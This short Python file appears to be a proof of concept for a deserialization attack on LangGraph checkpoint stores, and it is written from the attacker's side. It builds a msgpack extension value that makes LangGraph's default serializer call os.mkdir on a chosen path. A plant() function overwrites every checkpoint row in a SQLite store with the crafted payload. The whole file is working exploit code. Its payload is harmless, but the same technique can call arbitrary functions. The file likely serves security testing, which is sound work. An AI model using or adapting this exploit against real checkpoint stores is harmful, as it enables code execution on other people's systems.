"A crafted LangGraph checkpoint, as an attacker who can write a checkpoint store would plant it."
import sqlite3
from pathlib import Path
import ormsgpack


def evil_call(target:Path) -> ormsgpack.Ext:
    "A msgpack extension value that calls os.mkdir(target) when LangGraph's default serializer rebuilds it."
    return ormsgpack.Ext(1, ormsgpack.packb(("os", "mkdir", [str(target)])))  # 1: a constructor with positional args


def evil_checkpoint(target:Path) -> bytes:
    "A whole checkpoint (SQLite stores them so) whose `history` channel is `evil_call`."
    call = evil_call(target)
    return ormsgpack.packb({"v": 4, "id": "1f0-evil", "ts": "2026-11-27T00:00:00+00:00", "channel_values": {"history": call},
                            "channel_versions": {}, "versions_seen": {}, "updated_channels": None})


def plant(db_path:Path, target:Path) -> int:
    "Replace every checkpoint stored in a SQLite checkpoints file by the crafted one; how many rows were changed."
    with sqlite3.connect(db_path) as db:  # the attacker's own tool, not the project's
        return db.execute("UPDATE checkpoints SET type='msgpack', checkpoint=?", (evil_checkpoint(target),)).rowcount
